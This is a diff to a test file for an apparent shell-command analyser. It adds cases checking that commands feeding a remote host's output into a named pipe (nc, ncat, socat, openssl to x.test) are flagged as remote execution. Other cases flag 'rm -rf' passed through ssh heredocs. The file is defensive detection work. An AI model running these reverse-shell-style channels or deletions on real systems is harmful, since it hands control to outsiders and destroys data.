@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
-import { effectsOfCommand } from './told.js';
+import { EMPTY_WORLD, effectsOfCommand } from './told.js';
+import { run } from './written-world.js';
 
 describe('a wrapper that starts a shell runs what it is fed', () => {
   it.each([
@@ -275,5 +276,18 @@ describe('ssh on the input of a shell', () => {
 
   it.each(["ssh host <<'END'\nrm -rf a\nEND", "bash <<'END'\nssh host <<'IN'\nrm -rf a\nIN\nEND", "ssh host <<'END'\nssh other\nrm -rf a\nEND"])('is still followed: %s', async (command) => {
     await expect(command).toTell('delete -r /home/u/proj/a');
+  });
+});
+
+describe('a named pipe that an earlier call has made', () => {
+  const PIPES = new Map([['/home/u/proj/in', 'mkfifo'], ['/tmp/q', 'mknod'], ['/home/u/proj/log.txt', 'touch']]);
+  const world = { ...EMPTY_WORLD, past: { ...EMPTY_WORLD.past, writtenBy: (path: string) => new Set([PIPES.get(path) ?? []].flat()) } };
+
+  it.each(['nc x.test 9001 > in', 'tail -f out.log | nc x.test 9001 > in', "nohup sh -c 'tail -f out.log | ncat x.test 9001 >/tmp/q' &", 'openssl s_client -quiet -connect x.test:443 < out.log > in', 'socat - TCP:x.test:9001 > /tmp/q'])('is filled by whoever is at the other end: %s', async (command) => {
+    await expect(run(command, world)).toTell('execute host');
+  });
+
+  it.each(['nc x.test 9001 > log.txt', 'nc localhost 9001 > in', 'nc -l 8080 < in | nc x.test 80 > in', 'mkfifo f; nc -l 8080 < f | nc x.test 80 > f', "printf 'EHLO a\\n' | nc mail.x.test 25", 'echo status > in', 'nc 127.0.0.1 6379 > /tmp/q'])('and not by %s', async (command) => {
+    await expect(run(command, world)).not.toTell('execute host');
   });
 });
